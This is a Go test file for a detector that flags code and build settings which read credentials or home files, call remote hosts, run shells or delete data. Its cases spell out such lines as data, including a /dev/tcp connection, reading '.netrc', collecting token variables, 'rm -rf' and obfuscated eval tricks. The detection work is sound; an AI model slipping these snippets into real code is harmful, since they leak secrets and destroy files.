package outward_test

import (
	"testing"

	"passepartout/command/outward"
)

var world = outward.World{Home: "/home/u", Dir: "/home/u/ws", Own: []string{"/tmp/s"}}

// TestCode: a text leads out if it names what does, in whatever way it hides that;
// what tests and configurations do every day stays inside.
func TestCode(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		file, text string
		out        bool
	}{
		{"t.py", "assert norm('/etc/passwd') == 'x'", false},
		{"t.py", "print(open('/etc/hosts').read())", true},
		{"t.py", "open('/tmp/s/x')", false},
		{"t.py", "open('~/.netrc')", true},
		{"t.py", "p = '.net' + 'rc'\nopen(p)", true},
		{"t.py", "p = '/'.join(['', 'home', 'u', 'x'])\nopen(p)", true},
		{"t.py", "exec(x)", true},
		{"t.py", "session.exec(q)\nre.compile('x')\nmodel.eval()", false},
		{"t.py", "getattr(os, 'sys' + 'tem')('id')", true},
		{"t.py", "getattr(m, 'User')", false},
		{"t.py", "import_module(name)", false},
		{"t.py", "for n in ('os', 'sys'):\n    import_module(n).system('x')", true},
		{"t.py", "subprocess.run([sys.executable, '-m', 'app', *args])", false},
		{"t.py", "subprocess.run(['cat', '/home/u/x'])", true},
		{"t.py", "subprocess.run(['curl', url])", true},
		{"t.py", "subprocess.run(['rm', '-rf', p])", true},
		{"t.py", "subprocess.run(['sh', '-c', cmd])", true},
		{"t.py", "subprocess.run(b64decode(x))", true},
		{"t.py", "requests.get('https://api.example.com/x')", false},
		{"t.py", "requests.get('https://x.io/x')", true},
		{"t.py", "with patch('app.requests.get'):\n    load('https://x.io')", false},
		{"t.py", "socket.create_connection(('203.0.113.4', 80))", true},
		{"t.py", "Path.home()", true},
		{"t.py", "monkeypatch.setenv('HOME', str(tmp_path))\nrun()", false},
		{"t.py", "monkeypatch.setattr(Path, 'home', lambda: tmp_path)\nrun()", false},
		{"t.py", "# os.system('x')\nx = 1", false},
		{"t.py", "shutil.rmtree('/')", true},
		{"t.py", "Path(__file__).parents[4].unlink()", true},
		{"a/b/t.py", "Path(__file__).parent.parent / 'x'", false},
		{"t.py", "{k: v for k, v in os.environ.items() if 'TOKEN' in k}", true},
		{"t.js", "const {execSync} = require('child_process'); execSync('node cli.js')", false},
		{"t.js", "require('child_' + 'process')", true},
		{"t.js", "require(x)", true},
		{"t.js", "/(a)/.exec(s)", false},
		{"t.js", "[].filter.constructor('return 1')()", true},
		{"t.js", "globalThis['ev' + 'al']('1')", true},
		{"t.js", "const h = process.env.HOME", true},
		{"t.js", "x(`${process.env.HOME}/a`)", true},
		{"t.js", "const label = 'Note; rm -rf $HOME'", false},
		{"t.js", "jest.spyOn(os, 'homedir').mockReturnValue('x')", false},
		{"t.js", "await fetch('https://x.io')", true},
		{"t.js", "expect(fetch).toHaveBeenCalledWith('https://x.io')", false},
		{"vite.config.js", "export default {server: {proxy: {'/api': 'http://localhost:1'}}}", false},
		{"vite.config.js", "export default {plugins: ['/opt/x.js']}", true},
		{"t_test.go", "func TestA() {\n\tt.Setenv(\"HOME\", t.TempDir())\n\th, _ := os.UserHomeDir()", false},
		{"t.py", "def test_a():\n    if False:\n        os.environ['HOME'] = tmp\n    Path.home()", true},
		{"t.py", "monkeypatch.setattr(A, 'home', Path.home())", true},
		{"t_test.go", "t.Setenv(\"HOME\", t.TempDir())\n}\nfunc init() { os.UserHomeDir()", true},
		{"t_test.go", "exec.Command(bin, \"--version\")", false},
		{"t_test.go", "exec.Command(\"sh\", []string{\"-c\", x}...)", true},
		{"x.go", "// #cgo LDFLAGS: -fplugin=/opt/x.so\nimport \"C\"", true},
		{"x.go", "//go:generate mockgen -source=a.go", false},
		{"build.rs", "Command::new(\"git\").args([\"rev-parse\"])", false},
		{"build.rs", "std::env::var(\"HOME\")", true},
		{"t.rs", "fn f<'a>(s: &'a str) -> char { 'x' }", false},
		{"Rakefile", "puts `git describe`", false},
		{"Rakefile", "puts `cat ~/.x`", true},
		{"Rakefile", "puts %x(cat /home/u/x)", true},
		{"x_spec.rb", "user.send(:ttl)", false},
		{"x_spec.rb", "user.send('sys' + 'tem', 'x')", true},
		{"XTest.php", "$f = 'sys' . 'tem'; $f('x');", true},
		{"XTest.php", "$this->assertSame(1, $x->run());", false},
		{"build.gradle", "new File(System.getProperty('user.home'))", true},
		{"build.gradle", "plugins { id 'java' }\nrepositories { mavenCentral() }", false},
		{"T.java", "Class.forName(\"java.lang.Run\" + \"time\")", true},
		{"t.c", "system(\"cat /home/u/x\");", true},
		{"t.exs", "File.rm_rf!(System.user_home!())", true},
		{"t.exs", "File.write!(Path.join(dir, \"a\"), \"x\")", false},
		{"t.cs", "new ProcessStartInfo { FileName = \"sh\", Arguments = \"-c id\" }", true},
		{"t.hs", "main = callCommand \"cat ~/x\"", true},
		{"t.py", "x = [46, 110, 101, 116, 114, 99]\nopen(bytes(x))", true},
		{"t.py", "create_engine('postgresql://db.acme.io/app')", true},
		{"t.py", "create_engine('postgresql://localhost/app')", false},
		{"t.py", "parse('postgresql://db.acme.io/app')", false},
		{"t.py", "os.killpg(1, 9)", true},
		{"t.py", "p.kill()", false},
		{"t.py", "B = ['git', 'push']\nsubprocess.run(B)", true},
		{"t.py", "x = 1 # '''\nPath.home()\ny = 1 # '''", true},
		{"t.js", "const r = /`/;\nos.homedir();\nconst q = /`/", true},
		{"t.js", "/*\n// */ eval('1')", true},
		{"t.js", "\\u0065val('1')", true},
		{"t.js", "\\u{65}val('1')", true},
		{"t.js", "s.normalize('NFKD').replace(/[\\u0300-\\u036f]/g, '')", false},
		{"t.js", "fs.readFileSync('\\x2fhome\\x2fu')", true},
		{"t.py", "print(open('.env').read())", true},
		{"t.py", "load_dotenv('.env')", false},
		{"t.py", "os.chdir('..')", true},
		{"t.py", "# coding: utf-7\nx", true},
		{"t.py", "ｅval(x)", true},
		{"a/t.js", "path.join('..', '..', 'x'); fs.rmSync(p)", true},
		{"a/t.js", "const x = require('../src/x'); fs.rmSync(p)", false},
		{"x_test.go", "net.DialTCP(\"tcp\", nil, &net.TCPAddr{IP: net.IPv4(203, 0, 113, 4)})", true},
		{"x_test.go", "x := 1 // odd ` tick\nos.Getenv(\"HOME\")\n// ` tick", true},
		{"x_spec.rb", "X = <<~T\n  don't\nT\nputs ENV['HOME']", true},
		{"Gemfile", "source 'https://rubygems.org'\ngem 'x'", false},
		{"Gemfile", "source 'http://203.0.113.4'\ngem 'x'", true},
	} {
		if word := outward.Code(world.Dir+"/"+c.file, c.text, world); (word != "") != c.out {
			t.Errorf("%s: %s: %q, want out: %v", c.file, c.text, word, c.out)
		}
	}
}

// TestSettings: the same for what tools read as settings.
func TestSettings(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		file, text string
		out        bool
	}{
		{"Makefile", "go test ./...\nrm -rf build", false},
		{"Makefile", "cp -r $(HOME)/x build", true},
		{"Makefile", "exec 3<>/dev/tcp/203.0.113.9/443", true},
		{"Makefile", "#!/bin/sh\necho x > /dev/null 2>&1", false},
		{"tox.ini", "commands = pytest {posargs}", false},
		{"tox.ini", "commands = cat {env:HOME}/x", true},
		{".pre-commit-config.yaml", "repos:\n  - repo: local\n    hooks:\n      - entry: ruff check", false},
		{".pre-commit-config.yaml", "repos:\n  - repo: https://github.com/x/y", true},
		{".cargo/config.toml", "[build]\nrustc-wrapper = \"w\"", true},
		{".cargo/config.toml", "[build]\ntarget-dir = \"target\"", false},
		{"Cargo.toml", "x = { git = \"https://github.com/x/y\" }", true},
		{"Cargo.toml", "repository = \"https://github.com/x/y\"", false},
		{"CMakeLists.txt", "FetchContent_Declare(x GIT_REPOSITORY https://github.com/x/y)", true},
		{"CMakeLists.txt", "add_executable(x main.c)", false},
		{"x.csproj", "<Exec Command=\"x\" />", true},
		{"go.mod", "replace a => ../../b", true},
		{"packages/a/tsconfig.json", "{\"extends\": \"../../tsconfig.json\"}", false},
		{".babelrc", "{\"plugins\": [\"../x.js\"]}", true},
		{"docker-compose.yml", "volumes: [\"pg:/var/lib/pg\"]", false},
		{"docker-compose.yml", "volumes: [\"~/x:/s\"]", true},
		{".yarnrc.yml", "yarnPath: /opt/x.cjs", true},
		{"CMakeLists.txt", "file(DOWNLOAD https://x.example/a.cmake a.cmake)", true},
		{"CMakeLists.txt", "set(HOMEPAGE https://x.example)", false},
		{"Taskfile.yml", "vars: {OUT: '{{.TASKFILE_DIR}}/..'}", true},
		{"Taskfile.yml", "vars: {OUT: '{{.TASKFILE_DIR}}/bin'}", false},
		{"Makefile", "OUT := $(CURDIR)/..", true},
		{"Makefile", "all:\n\tmkdir -p build && cd build && cmake ..", false},
		{"justfile", "out := justfile_directory() / \"..\"", true},
		{"a/CMakeLists.txt", "include_directories(${CMAKE_CURRENT_SOURCE_DIR}/..)", false},
		{"justfile", "set dotenv-load\na:\n    @echo $STRIPE_KEY", true},
		{"justfile", "set dotenv-load\na:\n    @echo done", false},
		{"Makefile", "include .env\na:\n\t@echo $(DB_PASSWORD)", true},
		{"compose.yaml", "services: {a: {env_file: .env, command: printenv}}", true},
	} {
		if word := outward.Settings(world.Dir+"/"+c.file, c.text, world); (word != "") != c.out {
			t.Errorf("%s: %s: %q, want out: %v", c.file, c.text, word, c.out)
		}
	}
}

// TestComputed: a command that is read somewhere, code that is downloaded and folders
// above lead out; the program's own words for a command do not.
func TestComputed(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		file, text string
		out        bool
	}{
		{"t.ts", "import { a } from '@/lib/money'\nreadFileSync('x')", false},
		{"t.ts", "import { a } from '/lib/money'\nreadFileSync('x')", true},
		{"t.ts", "readFileSync('@/etc/passwd')", true},
		{"t.py", "re.sub(p, lambda m: os.popen(m.group(1)).read(), text)", true},
		{"t.py", "for line in open('c.txt'):\n    subprocess.run(line, shell=True)", true},
		{"t.py", "import subprocess as sp\nsp.run(request.param)", true},
		{"t.py", "from subprocess import run as r\nr(json.load(f)['cmd'])", true},
		{"t.py", "CLI = [sys.executable, '-m', 'app']\nsubprocess.run(CLI + list(args))", false},
		{"t.py", "cmd = ['ls', '-l']\nsubprocess.run(cmd)", false},
		{"t.py", "urllib.request.urlretrieve('https://x.example/p.py', 'p.py')", true},
		{"a/t.py", "shutil.rmtree(os.getcwd() + '/..')", true},
		{"a/t.test.js", "const fs = require('fs'); fs.rmSync(__dirname + '/../..')", true},
		{"a/t.test.js", "const fs = require('fs'); fs.readFileSync(__dirname + '/../x')", false},
		{"t.js", "const {execSync} = require('child_process'); const m = s.match(/x/); execSync(`git ${m[1]}`)", true},
		{"Rakefile", "File.readlines('c.txt').each { |l| system(l) }", true},
		{"x_test.go", "b, _ := os.ReadFile(\"c.txt\")\nf := strings.Fields(string(b))\nexec.Command(f[0], f[1:]...)", true},
		{"build.gradle", "apply from: 'https://gradle.example/x.gradle'", true},
		{"build.gradle", "task x(type: Delete) { delete rootDir.parentFile }", true},
	} {
		if word := outward.Code(world.Dir+"/"+c.file, c.text, world); (word != "") != c.out {
			t.Errorf("%s: %s: %q, want out: %v", c.file, c.text, word, c.out)
		}
	}
}
